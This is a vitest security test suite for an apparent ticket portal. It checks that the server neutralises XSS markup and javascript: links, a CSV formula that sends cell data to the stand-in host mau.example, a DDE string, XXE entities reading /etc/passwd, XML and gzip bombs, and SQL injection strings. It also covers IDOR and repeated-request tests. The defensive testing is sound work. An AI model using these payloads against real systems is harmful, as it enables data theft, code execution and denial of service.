import { randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { padaria, people, type Name } from '../a-company.ts';
import { aServer, type TestServer } from '../a-server.ts';
import { anOpening } from '../a-site.ts';
import { png, uploaded } from '../http/some-files.ts';

let server: TestServer;
beforeAll(async () => void (server = await aServer()));
afterAll(() => server.close());

const ask = (name: Name, url: string, payload?: object) =>
  server.ask(name, { url: `/api/v1/${url}`, ...(payload && { method: 'POST', payload }) });
const open = (name: Name, more: object) =>
  ask(name, 'portal/tickets', { ...anOpening(server.house.site), ...more });

const MARKUP = '<img src=x onerror=alert(1)><script>alert(1)</script>';
const LINK = '[clique](javascript:alert(1)) <a href="javascript:alert(1)">x</a>';

describe('attack: markup that comes back as a page', () => {
  it('from subject, description, names, file and company is told as data, never as a page, and no link of it runs', async () => {
    const { owner } = server.house;
    await owner.query(`update company set name = $1 where code = $2`, [MARKUP, padaria.code]);
    await owner.query(`update person set name = $1 where email = $2`, [MARKUP, people.joao.email]);
    const { id } = await uploaded(server, 'joao', `${MARKUP}.svg`, `<svg>${MARKUP}</svg>`);
    const number = await server.house.open({
      subject: MARKUP,
      description: `${MARKUP} ${LINK} **e mais texto** para o mínimo`,
      marked: true,
    });
    await ask('joao', `portal/tickets/${number}/events`, {
      event: 'customer_replied',
      text: `${LINK} ${MARKUP}`,
      marked: true,
      files: [id],
    });
    for (const [name, url] of [
      ['joao', `portal/tickets/${number}`],
      ['joao', 'portal/home'],
      ['joao', 'portal/tickets?q=onerror'],
      ['joao', 'portal/export?format=csv'],
      ['joao', 'account/profile'],
      ['marina', `desk/tickets/${number}`],
      ['marina', 'desk/tickets?view=all&q=onerror'],
      ['marina', 'desk/export?view=all&format=csv'],
      ['marina', `desk/attachments/${id}`],
    ] as const) {
      const { headers, body, statusCode } = await ask(name, url);
      expect([url, statusCode]).toEqual([url, 200]);
      expect(headers['content-type']).toMatch(
        /^(application\/(problem\+)?json|application\/octet-stream|text\/(csv|plain))/,
      );
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['content-security-policy']).toContain("default-src 'none'");
      // Formatting is words with marks, and a link of it leads to a page of the web or nowhere.
      expect(body).not.toMatch(/"(href|to|address|url)":\s*"javascript:/i);
    }
    await owner.query(`update company set name = $1 where code = $2`, [padaria.name, padaria.code]);
    await owner.query(`update person set name = $1 where email = $2`, [people.joao.name, people.joao.email]);
  });
});

describe('attack: a file that a sheet runs, or that reads the server', () => {
  const FORMULA = '=HYPERLINK("http://mau.example?"&A1;"clique")';

  it('formulas in what customers write leave as text, in each file of ours', async () => {
    await server.house.open({ subject: FORMULA });
    await server.house.owner.query(`update company set name = '=cmd|calc' where code = $1`, [padaria.code]);
    await server.house.owner.query(`update person set roles = '{manager}' where email = $1`, [
      people.celia.email,
    ]);
    const files = [
      ['joao', 'portal/export?format=csv'],
      ['joao', 'portal/statement?from=2026-03-01&to=2026-03-31&format=csv'],
      ['marina', 'desk/export?view=all&format=csv'],
      ['celia', 'desk/customers/export?kind=companies'],
      ['celia', 'desk/customers/export?kind=contacts'],
      ['celia', 'desk/audit/export?format=csv'],
    ] as const;
    for (const [name, url] of files) {
      const { statusCode, body } = await ask(name, url);
      expect([url, statusCode]).toEqual([url, 200]);
      const cells = body.replace('\ufeff', '').split(/[;\r\n]+/);
      expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
    }
    const { body } = await ask('joao', 'portal/export?format=csv');
    expect(body).toContain(`'=HYPERLINK`);
    await server.house.owner.query(`update company set name = $1 where code = $2`, [
      padaria.name,
      padaria.code,
    ]);
  });

  it('a statement to print reads, loads and starts nothing, whatever its words say', async () => {
    for (const subject of [
      '<iframe src="file:///etc/passwd">',
      '{{include /etc/passwd}}',
      ') /JS (app.alert(1)) /S /JavaScript >>',
    ])
      await server.house.open({ subject });
    const { rawPayload, headers } = await ask(
      'joao',
      'portal/statement?from=2026-03-01&to=2026-03-31&format=pdf',
    );
    const text = rawPayload.toString('latin1');
    expect(headers['content-type']).toBe('application/pdf');
    expect(text.startsWith('%PDF-')).toBe(true);
    expect(text).not.toMatch(/\/(JavaScript|JS|OpenAction|AA|Launch|URI|EmbeddedFile|GoToR|SubmitForm)\b/);
    expect(text).not.toContain('root:');
  });
});

describe('attack: a bomb that unpacks', () => {
  it('a body that was packed is not unpacked', async () => {
    const headers = { ...(await server.headersOf('joao')), 'content-type': 'application/json' };
    for (const encoding of ['gzip', 'deflate', 'br', 'gzip, gzip']) {
      const answer = await server.app.inject({
        url: '/api/v1/portal/tickets',
        method: 'POST',
        headers: { ...headers, 'content-encoding': encoding },
        payload: gzipSync(Buffer.alloc(20_000_000)),
      });
      expect(answer.statusCode).toBeOneOf([400, 415]);
    }
  });

  it('an invoice with entities, outside parts or no end is a file like others, and nothing is read of it', async () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${'&a;'.repeat(10)}">`).join('')}]><NFe><infNFe Id="&a8;"/></NFe>`;
    const outside =
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><NFe><xNome>&x;</xNome></NFe>';
    for (const xml of [lol, outside, '<NFe>'.repeat(100_000)]) {
      const answer = await uploaded(server, 'joao', 'nota.xml', xml);
      expect(answer).toMatchObject({ kind: 'xml' });
      expect(JSON.stringify(answer)).not.toMatch(/root:|lollol/);
    }
  });
});

describe('attack: what is somebody else’s, taken along by its id', () => {
  const key = randomUUID();

  it('the key of a form, a closed ticket, a colleague and a company of others', async () => {
    const mine = (await open('joao', { key })).json<{ number: string }>().number;
    const his = (await open('ivo', { key })).json<{ number: string }>().number;
    expect(his).not.toBe(mine);
    await server.house.add('marina', mine, { event: 'solved', text: 'Feito.' });
    await server.house.add('joao', mine, { event: 'accepted' });
    const { rows } = await server.house.owner.query<{ word: string; id: string }>(
      `select email as word, id from person union all select code, id from company`,
    );
    const ids = new Map(rows.map(({ word, id }) => [word, id]));
    for (const [more, refused] of [
      [{ key: randomUUID(), followUpOf: mine }, 'ticket/not-found'],
      [{ key: randomUUID(), requester: ids.get(people.joao.email) }, 'contact/unknown'],
      [{ key: randomUUID(), company: ids.get(padaria.code) }, 'company/not-yours'],
    ] as const)
      expect((await open('ivo', more)).json().type).toBe(refused);
    // An agent who opens for him mixes the companies as little.
    const other = await ask('marina', `desk/contacts/${ids.get(people.ivo.email)}/tickets`, {
      ...anOpening(server.house.site),
      channel: 'phone',
      followUpOf: mine,
    });
    expect(other.json().type).toBe('link/other-company');
    expect((await ask('ivo', `portal/tickets/${his}`)).body).not.toContain(mine);
  });

  it('a file that was uploaded by somebody else, or sent already, goes with nothing', async () => {
    const { id } = await uploaded(server, 'joao', 'folha.png', png);
    const send = (name: Name, number: string) =>
      ask(name, `portal/tickets/${number}/events`, { event: 'customer_replied', text: 'Veja.', files: [id] });
    const [mine, other] = [await server.house.open(), await server.house.open()];
    const his = await server.house.open({}, 'ivo');
    expect((await send('ivo', his)).json().type).toBe('attachment/gone');
    expect((await open('ivo', { key: randomUUID(), files: [id] })).json().type).toBe('attachment/gone');
    expect((await send('joao', mine)).statusCode).toBe(200);
    expect((await send('joao', other)).json().type).toBe('attachment/gone');
    expect((await ask('bia', `portal/tickets/${other}`)).body).not.toContain(id);
  });
});

describe('attack: an acceptance sent again', () => {
  it('counts once, and not for a later solution', async () => {
    const number = await server.house.open();
    await server.house.add('marina', number, { event: 'taken' });
    await server.house.add('marina', number, { event: 'solved', text: 'Feito.' });
    const accept = () => ask('joao', `portal/tickets/${number}/events`, { event: 'accepted' });
    const answers = await Promise.all([accept(), accept(), accept()]);
    expect(answers.map(({ statusCode }) => statusCode).toSorted((a, b) => a - b)).toEqual([200, 409, 409]);
    const { rows } = await server.house.owner.query(
      `select 1 from ticket_event join ticket on ticket.id = ticket_id where number = $1 and kind = 'accepted'`,
      [number],
    );
    expect(rows).toHaveLength(1);
  });
});

describe('attack: SQL in a filter, an order or a place in a list', () => {
  const EVIL = [
    `'; drop table ticket; --`,
    `1) or true --`,
    `number desc; select pg_sleep(9)`,
    `"; --`,
    `\\; --`,
    `$1`,
    `%' or '1'='1`,
  ];

  it('orders nothing, finds nothing, and a kept view holds it as the words it is', async () => {
    const his = await server.house.open({ subject: 'Balanço de Ivo' }, 'ivo');
    for (const evil of EVIL) {
      const words = encodeURIComponent(evil);
      for (const url of [
        `tickets?q=${words}`,
        `tickets?sort=${words}`,
        `tickets?way=${words}`,
        `tickets?cursor=${words}`,
        `tabs?q=${words}`,
        `tickets/similar?subject=${words}`,
        `export?format=csv&q=${words}`,
      ]) {
        const { statusCode, body } = await ask('joao', `portal/${url}`);
        expect([url, statusCode]).toEqual([url, expect.toBeOneOf([200, 400, 422])]);
        expect(body).not.toContain(his);
      }
      const id = randomUUID();
      const kept = { id, name: evil, shared: 'own', view: 'all', filter: { q: evil }, sort: null };
      expect((await ask('marina', 'desk/kept-views', kept)).json()).toContainEqual(
        expect.objectContaining({ name: evil.trim(), count: 0 }),
      );
    }
    const { rows } = await server.house.owner.query(
      'select count(*)::int as n from ticket where number = $1',
      [his],
    );
    expect(rows).toEqual([{ n: 1 }]);
  });
});

describe('attack: internal notes and confidential answers reach those they are of', () => {
  it('by search, count, file, event or page: neither is there, nor told by what is found', async () => {
    const number = await server.house.open({ subject: 'Relatório' });
    await server.house.add('marina', number, {
      event: 'entry_added',
      visibility: 'internal',
      text: 'Xilofone em atraso',
    });
    await server.house.add('marina', number, { event: 'solved', text: 'Feito.' });
    await server.house.add('joao', number, { event: 'accepted' });
    const { guide } = server.house.site.guides.current;
    const worst = guide.survey?.scale.at(-1)?.value ?? 1;
    await ask('joao', `portal/tickets/${number}/rating`, { value: worst, comment: 'Cacatua desatenta' });
    for (const [name, words] of [
      ['joao', ['Xilofone']],
      ['bia', ['Xilofone', 'Cacatua']],
      ['ivo', ['Xilofone', 'Cacatua', number]],
      ['marina', ['Cacatua']],
      ['paulo', ['Cacatua']],
    ] as const) {
      const side = people[name].kind === 'agent' ? 'desk' : 'portal';
      for (const word of words) {
        const list = await ask(name, `${side}/tickets?${side === 'desk' ? 'view=all&' : ''}q=${word}`);
        expect([name, word, list.json().rows]).toEqual([name, word, []]);
      }
      for (const url of [
        `${side}/tickets/${number}`,
        `${side}/export?format=csv${side === 'desk' ? '&view=all' : ''}`,
      ]) {
        const { body } = await ask(name, url);
        expect([name, url, words.filter((word) => word !== number && body.includes(word))]).toEqual([
          name,
          url,
          [],
        ]);
      }
    }
    expect((await ask('marina', `desk/tickets/${number}`)).body).toContain('Xilofone');
  });
});
